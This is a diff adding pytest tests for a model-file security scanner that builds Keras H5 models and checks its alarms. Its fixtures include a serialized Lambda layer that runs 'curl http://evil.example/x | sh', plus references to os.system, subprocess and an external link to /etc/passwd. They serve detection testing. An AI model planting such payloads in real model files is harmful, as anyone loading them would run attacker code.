@@ -1,0 +1,307 @@
+"""Keras H5 models built with h5py in Keras's layout (and by Keras itself), then scanned."""
+
+from __future__ import annotations
+
+import base64
+import json
+import marshal
+import shutil
+from pathlib import Path
+from typing import Any
+
+import h5py
+import numpy as np
+import pytest
+from _frameworks_helpers import alarms, rules_at, scan, scan_without_module
+
+from modelaudit import rules
+from modelaudit.findings import FileStatus, IssueSeverity
+from modelaudit.scanners import framework_rules as R
+
+CRIT = IssueSeverity.CRITICAL
+WARN = IssueSeverity.WARNING
+
+
+def _dense(name: str, units: int, activation: str = "relu") -> dict[str, Any]:
+    return {
+        "class_name": "Dense",
+        "config": {
+            "name": name,
+            "trainable": True,
+            "dtype": "float32",
+            "units": units,
+            "activation": activation,
+            "use_bias": True,
+            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
+            "bias_initializer": {"class_name": "Zeros", "config": {}},
+            "kernel_regularizer": {"class_name": "L2", "config": {"l2": 0.01}},
+            "bias_regularizer": None,
+            "activity_regularizer": None,
+            "kernel_constraint": None,
+            "bias_constraint": None,
+        },
+    }
+
+
+def _sequential(layers: list[dict[str, Any]], name: str = "sequential") -> dict[str, Any]:
+    first = {
+        "class_name": "InputLayer",
+        "config": {
+            "batch_input_shape": [None, 4],
+            "dtype": "float32",
+            "sparse": False,
+            "ragged": False,
+            "name": "input_1",
+        },
+    }
+    return {"class_name": "Sequential", "config": {"name": name, "layers": [first, *layers]}}
+
+
+TRAINING = {
+    "loss": "categorical_crossentropy",
+    "metrics": [
+        [
+            {
+                "class_name": "MeanMetricWrapper",
+                "config": {"name": "accuracy", "dtype": "float32", "fn": "categorical_accuracy"},
+            }
+        ]
+    ],
+    "weighted_metrics": None,
+    "loss_weights": None,
+    "optimizer_config": {
+        "class_name": "Adam",
+        "config": {"name": "Adam", "learning_rate": 0.001, "beta_1": 0.9, "beta_2": 0.999},
+    },
+}
+
+
+def write_keras_h5(
+    path: Path, model_config: dict[str, Any], training: dict[str, Any] | None = None
+) -> Path:
+    """Keras 2's `save_model_to_hdf5` layout: config attributes plus a model_weights group."""
+    with h5py.File(path, "w") as f:
+        f.attrs["keras_version"] = "2.13.1"
+        f.attrs["backend"] = "tensorflow"
+        f.attrs["model_config"] = json.dumps(model_config).encode("utf-8")
+        f.attrs["training_config"] = json.dumps(training or TRAINING).encode("utf-8")
+        weights = f.create_group("model_weights")
+        names = [
+            layer["config"]["name"]
+            for layer in model_config["config"]["layers"]
+            if layer["class_name"] == "Dense"
+        ]
+        weights.attrs["layer_names"] = np.array([n.encode() for n in names])
+        weights.attrs["backend"] = b"tensorflow"
+        weights.attrs["keras_version"] = b"2.13.1"
+        for n in names:
+            group = weights.create_group(n)
+            group.attrs["weight_names"] = np.array(
+                [f"{n}/kernel:0".encode(), f"{n}/bias:0".encode()]
+            )
+            group.create_dataset(f"{n}/kernel:0", data=np.ones((4, 4), np.float32))
+            group.create_dataset(f"{n}/bias:0", data=np.zeros(4, np.float32))
+    return path
+
+
+def lambda_layer(fn_source: str, name: str = "lambda") -> dict[str, Any]:
+    """A Keras 2 Lambda config: base64 of the marshalled code object of a lambda we compile."""
+    code = compile(fn_source, "<lambda>", "eval").co_consts[0]
+    raw = base64.b64encode(marshal.dumps(code)).decode("ascii")
+    return {
+        "class_name": "Lambda",
+        "config": {
+            "name": name,
+            "trainable": True,
+            "dtype": "float32",
+            "function": [raw, None, None],
+            "function_type": "lambda",
+            "module": "__main__",
+            "output_shape": None,
+            "output_shape_type": "raw",
+            "output_shape_module": None,
+            "arguments": {},
+        },
+    }
+
+
+EVIL_LAMBDA = "lambda x: __import__('os').system('curl http://evil.example/x | sh') or x"
+
+
+def test_legitimate_h5_in_keras_layout_is_clean(tmp_path: Path) -> None:
+    path = write_keras_h5(tmp_path / "model.h5", _sequential([_dense("d1", 8), _dense("d2", 2)]))
+    result = scan(path)
+    assert result.scanner_name == "keras_h5"
+    assert result.status is FileStatus.COMPLETE
+    assert alarms(result) == []
+    assert result.metadata["model_names"] == ["sequential"]
+
+
+def test_keras_saved_h5_files(tf_models: Path) -> None:
+    legit = scan(tf_models / "legit_keras3.h5")
+    assert alarms(legit) == [] and legit.status is FileStatus.COMPLETE
+    assert legit.metadata["model_names"] == ["plain_net"]
+    lam = scan(tf_models / "lambda_keras3.h5")
+    assert rules_at(lam, WARN) == {R.KERAS_LAMBDA}
+    assert CRIT not in {i.severity for i in lam.issues}
+
+
+def test_dangerous_lambda_code_is_critical_with_names(tmp_path: Path) -> None:
+    path = write_keras_h5(tmp_path / "m.h5", _sequential([lambda_layer(EVIL_LAMBDA)]))
+    result = scan(path)
+    crit = [i for i in result.issues if i.rule == R.KERAS_LAMBDA_DANGEROUS]
+    assert len(crit) == 1 and crit[0].severity is CRIT
+    evidence = crit[0].details["evidence"]
+    assert "system" in evidence and "__import__" in evidence and "os" in evidence
+    assert any("curl" in e for e in evidence)
+
+
+def test_benign_lambda_is_a_warning(tmp_path: Path) -> None:
+    path = write_keras_h5(tmp_path / "m.h5", _sequential([lambda_layer("lambda x: x * 2.0")]))
+    result = scan(path)
+    assert rules_at(result, WARN) == {R.KERAS_LAMBDA}
+    assert rules_at(result, CRIT) == set()
+
+
+@pytest.mark.parametrize("wrapper", ["TimeDistributed", "Bidirectional", "nested_model"])
+def test_lambda_inside_wrappers_and_nested_models(tmp_path: Path, wrapper: str) -> None:
+    inner = lambda_layer(EVIL_LAMBDA, name="hidden")
+    if wrapper == "nested_model":
+        layer = _sequential([_dense("a", 4), inner], name="inner_model")
+        outer = {
+            "class_name": "Functional",
+            "config": {"name": "outer", "layers": [layer], "input_layers": [], "output_layers": []},
+        }
+    else:
+        layer = {"class_name": wrapper, "config": {"name": "wrap", "layer": inner}}
+        outer = _sequential([layer])
+    result = scan(write_keras_h5(tmp_path / "m.h5", outer))
+    assert R.KERAS_LAMBDA_DANGEROUS in rules_at(result, CRIT)
+
+
+def test_named_function_lambda_from_os_is_critical(tmp_path: Path) -> None:
+    layer = {
+        "class_name": "Lambda",
+        "config": {"name": "l", "function": "system", "function_type": "function", "module": "os"},
+    }
+    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential([layer])))
+    assert R.KERAS_DANGEROUS_MODULE in rules_at(result, CRIT)
+
+
+def test_custom_objects(tmp_path: Path) -> None:
+    layers = [
+        {"class_name": "MyAttention", "config": {"name": "att"}},
+        {
+            "module": "subprocess",
+            "class_name": "function",
+            "config": "check_output",
+            "registered_name": None,
+        },
+    ]
+    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential(layers)))
+    assert R.KERAS_CUSTOM_OBJECT in rules_at(result, WARN)
+    assert R.KERAS_DANGEROUS_MODULE in rules_at(result, CRIT)
+    custom = [i for i in result.issues if i.rule == R.KERAS_CUSTOM_OBJECT]
+    assert custom[0].details["class_name"] == "MyAttention"
+
+
+def test_registered_name_outside_keras(tmp_path: Path) -> None:
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Dense",
+        "config": {"name": "d"},
+        "registered_name": "os>Dense",
+    }
+    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential([layer])))
+    assert R.KERAS_DANGEROUS_MODULE in rules_at(result, CRIT)
+
+
+def test_tfsm_layer_get_file_and_vocabulary(tmp_path: Path) -> None:
+    layers = [
+        {"class_name": "TFSMLayer", "config": {"name": "t", "filepath": "/srv/other_model"}},
+        {"module": "keras.utils", "class_name": "function", "config": "get_file"},
+        {
+            "class_name": "StringLookup",
+            "config": {"name": "s", "vocabulary": "https://x.example/v"},
+        },
+        {"class_name": "IntegerLookup", "config": {"name": "i", "vocabulary": "vocab.txt"}},
+        {"class_name": "TextVectorization", "config": {"name": "tv", "vocabulary": ["a", "b"]}},
+    ]
+    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential(layers)))
+    crit = rules_at(result, CRIT)
+    assert R.KERAS_TFSM_LAYER in crit
+    assert R.KERAS_DOWNLOAD in crit
+    assert R.KERAS_VOCAB_FILE in rules_at(result, WARN)
+    vocab = [i for i in result.issues if i.details.get("key") == "vocabulary"]
+    assert sorted(i.details["value"] for i in vocab) == ["https://x.example/v", "vocab.txt"]
+
+
+def test_custom_loss_and_metric_in_training_config(tmp_path: Path) -> None:
+    training = {**TRAINING, "loss": "my_focal_loss", "metrics": ["accuracy", "my_metric"]}
+    result = scan(write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]), training))
+    found = [i.details["name"] for i in result.issues if i.rule == R.KERAS_CUSTOM_TRAINING]
+    assert sorted(found) == ["my_focal_loss", "my_metric"]
+
+
+def test_external_link_storage_and_virtual_dataset(tmp_path: Path) -> None:
+    other = tmp_path / "other.h5"
+    with h5py.File(other, "w") as f:
+        f.create_dataset("data", data=np.arange(4, dtype=np.float32))
+    raw = tmp_path / "raw.bin"
+    raw.write_bytes(b"\0" * 64)
+    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]))
+    with h5py.File(path, "a") as f:
+        f["model_weights/leak"] = h5py.ExternalLink("/etc/passwd.h5", "/secret")
+        f.create_dataset("ext", shape=(4,), dtype="f4", external=[(str(raw), 0, 16)])
+        layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
+        layout[:] = h5py.VirtualSource(str(other), "data", shape=(4,))
+        f.create_virtual_dataset("virt", layout)
+    result = scan(path)
+    crit = rules_at(result, CRIT)
+    assert {R.HDF5_EXTERNAL_LINK, R.HDF5_EXTERNAL_STORAGE, R.HDF5_VIRTUAL_DATASET} <= crit
+    link = next(i for i in result.issues if i.rule == R.HDF5_EXTERNAL_LINK)
+    assert link.details["filename"] == "/etc/passwd.h5"
+
+
+def test_renamed_h5_reaches_keras_scanner(tmp_path: Path) -> None:
+    path = write_keras_h5(tmp_path / "m.h5", _sequential([lambda_layer(EVIL_LAMBDA)]))
+    renamed = tmp_path / "pytorch_model.bin"
+    shutil.copy(path, renamed)
+    result = scan(renamed)
+    assert result.scanner_name == "keras_h5"
+    assert R.KERAS_LAMBDA_DANGEROUS in rules_at(result, CRIT)
+
+
+def test_model_name_feeds_blacklist(tmp_path: Path) -> None:
+    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)], name="EvilNet"))
+    result = scan(path, blacklist_patterns=["evilnet"])
+    assert rules.BLACKLISTED in rules_at(result, CRIT)
+
+
+def test_invalid_config_json_is_inconclusive(tmp_path: Path) -> None:
+    path = tmp_path / "m.h5"
+    with h5py.File(path, "w") as f:
+        f.attrs["model_config"] = b'{"class_name": "Sequential", "config": {'
+    result = scan(path)
+    assert result.status is FileStatus.INCONCLUSIVE
+    assert R.KERAS_UNREADABLE_CONFIG in rules_at(result, WARN)
+
+
+def test_truncated_h5_is_inconclusive(tmp_path: Path) -> None:
+    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]))
+    data = path.read_bytes()
+    cut = tmp_path / "cut.h5"
+    cut.write_bytes(data[: len(data) // 3])
+    result = scan(cut)
+    assert result.status is FileStatus.INCONCLUSIVE
+
+
+def test_missing_h5py_is_reported_and_inconclusive(tmp_path: Path) -> None:
+    path = write_keras_h5(tmp_path / "m.h5", _sequential([_dense("d", 2)]))
+    result = scan_without_module(path, "h5py")
+    assert result["status"] == "inconclusive"
+    issues = result["issues"]
+    assert isinstance(issues, list)
+    messages = [i["message"] for i in issues if i.get("rule") == rules.MISSING_DEPENDENCY]
+    assert messages and "h5py not installed, cannot scan Keras H5 files" in messages[0]
+    assert "pip install h5py" in messages[0]
